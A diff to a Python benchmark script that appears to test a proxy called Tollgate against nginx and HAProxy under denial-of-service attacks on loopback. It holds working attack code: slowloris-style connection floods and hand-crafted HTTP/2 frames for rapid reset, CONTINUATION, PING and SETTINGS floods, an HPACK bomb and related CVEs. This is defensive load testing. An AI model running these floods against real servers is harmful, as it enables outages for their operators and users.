@@ -1,25 +1,88 @@
 #!/usr/bin/env python3
-"""What one client address can do to all others: attacks with slow bodies and idle connections, side by side with nginx and HAProxy.
+"""What one client address can do to all others: attacks with slow bodies, idle connections and frames of HTTP/2, side by side with
+nginx and HAProxy.
 
     attacks.py target/release/tollgate                     every attack, every contestant
     attacks.py --only slow-uploads OLD NEW                 one attack, two builds beside nginx and HAProxy
 
 The attacker has the address 127.0.0.2. Meanwhile a client at 127.0.0.3 opens a new connection for each request, 25 requests a second.
-Printed is what that client sees: how many of its requests failed, and how long the others took. All contestants run on two workers
-with their default limits; Tollgate with the shipped proxy.yaml, and a ban of the attacker in `banned-idle`. Peers have no such ban:
-they `deny` the address.
+Printed is what that client sees: how many of its requests failed, and how long the others took; how often the attacker had to connect
+and how many of its connections were open at most; and the proxy's memory before the attack and at the end of it. All contestants run
+on two workers with their default limits; Tollgate with the shipped proxy.yaml, and a ban of the attacker in `banned-idle`. Peers have
+no such ban: they `deny` the address.
+
+`h2-open-streams` is no attack, but tells what streams take: the limits on connections are raised for all, and of 1,000 connections each
+has ten requests that the origin holds. Those of HTTP/2 that begin with `h2-` go to a port of nginx' own, which speaks nothing else there.
 
 Debian packages used: nginx-light haproxy. The limit of open files (ulimit -n) has to be above 12,000.
 """
-import argparse, os, pathlib, resource, selectors, shutil, socket, subprocess, tempfile, threading, time, urllib.request
+import argparse, multiprocessing, os, pathlib, resource, selectors, shutil, socket, subprocess, tempfile, time, urllib.request
+from typing import NamedTuple
 
 ATTACKER, CLIENT = "127.0.0.2", "127.0.0.3"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+END_STREAM, END_HEADERS, ACK = 1, 4, 1
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    """RFC 9113, 4.1."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def fields(method, path):
+    """Method, scheme, path and authority as HPACK, which leaves the table of fields as it is."""
+    return {"GET": b"\x82", "POST": b"\x83"}[method] + b"\x86\x04" + bytes([len(path)]) + path.encode() + b"\x01\x01a"
+
+
+def streams(count, each):
+    """A connection that begins with `each` of so many streams."""
+    return PREFACE + b"".join(each(2 * n + 1) for n in range(count))
+
+
+def get(path, flags=END_STREAM | END_HEADERS):
+    return lambda stream: frame(HEADERS, flags, stream, fields("GET", path))
+
+
+def upload(stream):
+    return frame(HEADERS, END_HEADERS, stream, fields("POST", "/upload"))
+
+
+def bomb(stream):
+    """One field of 4,000 bytes, which 12,000 bytes repeat as often; it is put into the table by the first stream."""
+    own = b"\x40\x01x\x7f\xa1\x1e" + b"x" * 4000 if stream == 1 else b""
+    return frame(HEADERS, END_STREAM | END_HEADERS, stream, fields("GET", "/") + own + b"\xbe" * 12000)
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
+NO_WINDOW = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=b"\0\4\0\0\0\0")
+
+
+class Kind(NamedTuple):
+    connections: int
+    first: bytes  # what each sends first
+    then: str  # what it does then: see Attack.work and Attack.each_second
+    again: bytes = b""  # what it then sends
+
+
 ATTACKS = {
-    # name: (connections, what each sends first, what each sends or reads every second)
-    "slow-uploads": (1030, b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\nx", "send"),
-    "slow-readers": (1030, b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n", "read"),
-    "idle": (10000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "request"),
-    "banned-idle": (10000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "request"),
+    "slow-uploads": Kind(1030, b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\nx", "send", b"x"),
+    "slow-readers": Kind(1030, b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n", "read"),
+    "idle": Kind(10000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "request", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
+    "banned-idle": Kind(10000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "request", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
+    # CVE-2023-44487.
+    "h2-rapid-reset": Kind(10, streams(5000, lambda n: get("/")(n) + frame(RST_STREAM, 0, n, b"\0\0\0\x08")), "reconnect"),
+    # CVE-2025-8671: the server is made to reset them, by an increment of 0.
+    "h2-made-you-reset": Kind(10, streams(5000, lambda n: get("/")(n) + frame(WINDOW_UPDATE, 0, n, bytes(4))), "reconnect"),
+    # CVE-2024-27316 and its like.
+    "h2-continuation": Kind(10, streams(1, get("/", END_STREAM)), "flood", frame(CONTINUATION, 0, 1, b"\0\x01x\x01x") * 4000),
+    "h2-settings": Kind(10, PREFACE, "flood", frame(SETTINGS, payload=b"\0\4\0\0\xff\xff") * 4000),  # CVE-2019-9515
+    "h2-ping": Kind(10, PREFACE, "flood", frame(PING, payload=bytes(8)) * 4000),  # CVE-2019-9512
+    "h2-ping-unread": Kind(10, PREFACE, "flood unread", frame(PING, payload=bytes(8)) * 4000),
+    "h2-empty-data": Kind(10, streams(1, upload), "flood", frame(DATA, 0, 1) * 4000),  # CVE-2019-9518
+    "h2-hpack-bomb": Kind(10, streams(500, bomb), "reconnect"),  # CVE-2016-6581
+    "h2-zero-window": Kind(100, NO_WINDOW + streams(100, get("/medium"))[len(PREFACE):], "hold"),
+    "h2-slow-uploads": Kind(20, streams(100, upload), "send", b"".join(frame(DATA, 0, 2 * n + 1, b"x") for n in range(100))),
+    "h2-open-streams": Kind(1000, streams(10, get("/hold")), "hold"),
 }
 SECONDS, PAUSE, PATIENCE = 30, 0.04, 3.0
 
@@ -39,74 +102,110 @@ def wait_for(port):
     raise SystemExit(f"nothing listens on port {port}")
 
 
-class Attack(threading.Thread):
+class Attack(multiprocessing.Process):
     """Holds its connections open, and opens each again when it is closed."""
 
     def __init__(self, port, attack):
         super().__init__(daemon=True)
-        self.port, (self.count, self.first, self.then) = port, ATTACKS[attack]
-        self.ended, self.open, self.most = threading.Event(), {}, 0
+        self.port, (self.count, self.first, self.then, self.again) = port, ATTACKS[attack]
+        self.is_http2 = attack.startswith("h2-")
+        self.ended, self.most, self.connected = multiprocessing.Event(), multiprocessing.Value("i"), multiprocessing.Value("i")
+        # By connection, what is left to be sent before it does what it does then.
+        self.open = {}
 
-    def connect(self, selector):
+    def connect(self):
         s = socket.socket()
         s.setblocking(False)
-        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        if not self.is_http2:
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         # The port is chosen when the connection is made, so that many are left (ip(7)).
         s.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
         s.bind((ATTACKER, 0))
         s.connect_ex(("127.0.0.1", self.port))
-        self.open[s] = False
-        selector.register(s, selectors.EVENT_WRITE)
+        self.open[s] = memoryview(self.first)
+        self.selector.register(s, selectors.EVENT_WRITE if "unread" in self.then else selectors.EVENT_READ | selectors.EVENT_WRITE)
+        self.connected.value += 1
+
+    def close(self, s):
+        if self.open.pop(s, None) is not None:
+            if s in self.selector.get_map():
+                self.selector.unregister(s)
+            s.close()
+
+    def read(self, s, size=65536):
+        if not (answer := s.recv(size)):
+            raise OSError("closed")
+        if self.is_http2 and answer[3:5] == bytes([SETTINGS, 0]):
+            s.send(frame(SETTINGS, ACK))
+
+    def work(self, s, events):
+        if events & selectors.EVENT_READ:
+            self.read(s)
+        if events & selectors.EVENT_WRITE:
+            self.open[s] = self.open[s][s.send(self.open[s]):]
+            if self.open[s]:
+                return
+            if self.then == "reconnect":
+                raise OSError("all is sent")
+            elif self.then.startswith("flood"):
+                self.open[s] = memoryview(self.again)
+            elif self.then == "read":
+                # A slow reader reads nothing but what the clock allows.
+                self.selector.unregister(s)
+            else:
+                self.selector.modify(s, selectors.EVENT_READ)
+
+    def each_second(self, s, now):
+        if self.then == "send":
+            s.send(self.again)
+        elif self.then == "read":
+            self.read(s, 1)
+        elif self.then == "request" and hash(s) % 20 == int(now) % 20:
+            s.send(self.again)  # once in 20 s, before any idle timeout
 
     def run(self):
-        selector, due, allowance, last = selectors.EpollSelector(), time.monotonic() + 1, 0.0, time.monotonic()
+        self.selector, due, allowance, last = selectors.EpollSelector(), time.monotonic() + 1, 0.0, time.monotonic()
         while not self.ended.is_set():
             now = time.monotonic()
             # 2,000 connections a second, so that the attack is under way after some seconds and costs little itself.
             allowance, last = min(allowance + (now - last) * 2000, 200), now
             while len(self.open) < self.count and allowance >= 1:
-                self.connect(selector)
+                self.connect()
                 allowance -= 1
-            for key, _ in selector.select(0.02):
-                s = key.fileobj
-                try:
-                    if not self.open[s]:
-                        s.send(self.first)
-                        self.open[s] = True
-                        # A slow reader reads nothing but what the clock allows.
-                        selector.modify(s, selectors.EVENT_READ) if self.then != "read" else selector.unregister(s)
-                    elif not s.recv(65536):
-                        raise OSError("closed")
-                except OSError:
-                    selector.unregister(s)
-                    del self.open[s]
-                    s.close()
-            self.most = max(self.most, sum(self.open.values()))
+            ready = [(key.fileobj, self.work, (events,)) for key, events in self.selector.select(0.02)]
+            self.most.value = max(self.most.value, len(self.open))
             if now >= due:
                 due = now + 1
-                for s in [s for s, is_sent in self.open.items() if is_sent]:
-                    try:
-                        if self.then == "send":
-                            s.send(b"x")
-                        elif self.then == "read" and not s.recv(1):
-                            raise OSError("closed")
-                        elif self.then == "request" and hash(s) % 20 == int(now) % 20:
-                            s.send(self.first)  # once in 20 s, before any idle timeout
-                    except BlockingIOError:
-                        pass
-                    except OSError:
-                        if self.then != "read":
-                            selector.unregister(s)
-                        del self.open[s]
-                        s.close()
-        for s in self.open:
-            s.close()
+                ready += [(s, self.each_second, (now,)) for s, left in self.open.items() if not left]
+            for s, do, arguments in ready:
+                try:
+                    if s in self.open:
+                        do(s, *arguments)
+                except BlockingIOError:
+                    pass
+                except OSError:
+                    self.close(s)
 
 
-def others(port):
-    """What another client sees for SECONDS: the number of requests, how many failed and how, and the times of the others."""
+class SilentOrigin(multiprocessing.Process):
+    """Takes every connection, and never answers."""
+
+    def __init__(self):
+        super().__init__(daemon=True)
+        self.listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
+        self.port, self.held = self.listener.getsockname()[1], multiprocessing.Value("i")
+
+    def run(self):
+        held = []
+        while True:
+            held.append(self.listener.accept())
+            self.held.value = len(held)
+
+
+def others(port, seconds):
+    """What another client sees for so long: the number of requests, how many failed and how, and the times of the others."""
     times, failures = [], {}
-    end = time.monotonic() + SECONDS
+    end = time.monotonic() + seconds
     while (begun := time.monotonic()) < end:
         try:
             with socket.create_connection(("127.0.0.1", port), PATIENCE, (CLIENT, 0)) as s:
@@ -131,7 +230,7 @@ NGINX = """worker_processes 2; worker_rlimit_nofile 20000; daemon off; pid {d}/{
 events {{ worker_connections {connections}; }}
 http {{ access_log off; client_body_temp_path {d}/{n}b; proxy_temp_path {d}/{n}p; fastcgi_temp_path {d}/{n}f; uwsgi_temp_path {d}/{n}u; scgi_temp_path {d}/{n}s;
   client_max_body_size 0; {http}
-  server {{ listen 127.0.0.1:{port} backlog=4096; {server} }} }}"""
+  server {{ listen 127.0.0.1:{port} backlog=4096; {http2} {server} }} }}"""
 
 
 def start_origin(d):
@@ -139,23 +238,30 @@ def start_origin(d):
     pathlib.Path(d, "html").mkdir()
     with open(f"{d}/html/large", "wb") as large:
         large.truncate(64 << 20)
+    with open(f"{d}/html/medium", "wb") as medium:
+        medium.truncate(1 << 20)
     pathlib.Path(d, "html/index.html").write_text("ok")
     # Reads the whole upload, as an application does.
     sink = free_port()
     pathlib.Path(d, "origin.conf").write_text(NGINX.format(
-        d=d, n="origin", connections=20000, port=port, http=f"server {{ listen 127.0.0.1:{sink}; location / {{ return 200 ok; }} }}",
+        d=d, n="origin", connections=20000, port=port, http2="", http=f"server {{ listen 127.0.0.1:{sink}; location / {{ return 200 ok; }} }}",
         server=f"root {d}/html; location /upload {{ proxy_pass http://127.0.0.1:{sink}; }}"))
     origin = subprocess.Popen(["nginx", "-c", f"{d}/origin.conf"])
     wait_for(port)
     return origin, port
 
 
-def start(contestant, d, origin, attack):
-    port, deny = free_port(), attack == "banned-idle"
+def start(contestant, d, origin, silent, attack):
+    """The process, its port, and that for HTTP/2."""
+    port, deny, is_open = free_port(), attack == "banned-idle", attack == "h2-open-streams"
+    http2_port = port
     if contestant == "nginx":
-        # Debian's number of connections.
-        server = f"location / {{ {f'deny {ATTACKER};' if deny else ''} proxy_pass http://127.0.0.1:{origin}; }}"
-        pathlib.Path(d, "peer.conf").write_text(NGINX.format(d=d, n="peer", connections=768, port=port, http="", server=server))
+        http2_port = free_port()
+        server = f"""location / {{ {f'deny {ATTACKER};' if deny else ''} proxy_pass http://127.0.0.1:{origin}; }}
+          location /hold {{ proxy_pass http://127.0.0.1:{silent}; }}"""
+        # 768 is Debian's number of connections.
+        pathlib.Path(d, "peer.conf").write_text(NGINX.format(d=d, n="peer", connections=20000 if is_open else 768, port=port, http="",
+                                                             http2=f"listen 127.0.0.1:{http2_port} http2 backlog=4096;", server=server))
         process = subprocess.Popen(["nginx", "-c", f"{d}/peer.conf"])
     elif contestant == "haproxy":
         # Debian's timeouts.
@@ -170,7 +276,10 @@ defaults
 frontend f
   bind 127.0.0.1:{port}
   {f'http-request deny if {{ src {ATTACKER} }}' if deny else ''}
+  use_backend hold if {{ path /hold }}
   default_backend o
+backend hold
+  server hold 127.0.0.1:{silent}
 backend o
   server o 127.0.0.1:{origin} maxconn 1024
 """)
@@ -181,8 +290,12 @@ backend o
 admin: {{ address: "127.0.0.1:{admin}" }}
 workers: 2
 access_log: off
-upstreams: {{ origin: {{ endpoints: ["http://127.0.0.1:{origin}"] }} }}
-routes: [{{ path: /*, upstream: origin }}]
+upstreams:
+  origin: {{ endpoints: ["http://127.0.0.1:{origin}"] }}
+  hold: {{ endpoints: ["http://127.0.0.1:{silent}"], max_connections: {20000 if is_open else 1024}, timeouts: {{ response: 60s }} }}
+routes:
+  - {{ path: /hold, upstream: hold }}
+  - {{ path: /*, upstream: origin }}
 """)
         process = subprocess.Popen([contestant, "run", "--config", f"{d}/proxy.yaml"], stderr=open(f"{d}/tollgate.log", "w"))
         if deny:
@@ -191,7 +304,7 @@ routes: [{{ path: /*, upstream: origin }}]
                                          data=f'{{"key": "ip:{ATTACKER}", "for": "1h", "reason": "attack"}}'.encode())
             urllib.request.urlopen(ban).close()
     wait_for(port)
-    return process, port
+    return process, port, http2_port
 
 
 def memory(pid):
@@ -207,24 +320,29 @@ def measure(attack, contestant):
     try:
         origin, origin_port = start_origin(d)
         processes.append(origin)
-        proxy, port = start(contestant, d, origin_port, attack)
+        silent = SilentOrigin()
+        silent.start()
+        processes.append(silent)
+        proxy, port, http2_port = start(contestant, d, origin_port, silent.port, attack)
         processes.append(proxy)
-        attacker = Attack(port, attack)
+        others(port, 1)
+        before = memory(proxy.pid)
+        attacker = Attack(http2_port if attack.startswith("h2-") else port, attack)
         attacker.start()
+        processes.append(attacker)
         time.sleep(attacker.count / 2000 + 2)
-        times, failures = others(port)
-        held = memory(proxy.pid)
-        attacker.ended.set()
-        attacker.join()
+        times, failures = others(port, SECONDS)
+        after, held = memory(proxy.pid), f"{silent.held.value} held" if silent.held.value else ""
         times.sort()
         at = lambda part: f"{times[min(int(len(times) * part), len(times) - 1)] * 1000:9.1f}" if times else "        -"
         failed = sum(failures.values())
         name = pathlib.Path(contestant).name
-        print(f"{attack:14}{name:16}{len(times) + failed:8}{failed:8}{at(.5)}{at(.99)}{attacker.most:8}{held:8.0f}   {failures or ''}", flush=True)
+        print(f"{attack:18}{name:16}{len(times) + failed:8}{failed:8}{at(.5)}{at(.99)}{attacker.connected.value:10}{attacker.most.value:8}"
+              f"{before:8.0f}{after:8.0f}   {failures or ''} {held}", flush=True)
     finally:
         for process in reversed(processes):
             process.terminate()
-            process.wait()
+            process.join() if isinstance(process, multiprocessing.Process) else process.wait()
         shutil.rmtree(d, ignore_errors=True)
 
 
@@ -239,7 +357,7 @@ def main():
     SECONDS = arguments.seconds
     resource.setrlimit(resource.RLIMIT_NOFILE, (min(20000, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
     os.environ["PATH"] += ":/usr/sbin:/sbin"
-    print(f"{'attack':14}{'proxy':16}{'requests':>8}{'failed':>8}{'p50 ms':>9}{'p99 ms':>9}{'held':>8}{'MiB':>8}   failures")
+    print(f"{'attack':18}{'proxy':16}{'requests':>8}{'failed':>8}{'p50 ms':>9}{'p99 ms':>9}{'connects':>10}{'open':>8}{'MiB':>8}{'then':>8}   failures")
     for attack in arguments.only or ATTACKS:
         for contestant in [*([] if arguments.no_peers else ["nginx", "haproxy"]), *arguments.binary]:
             measure(attack, contestant)
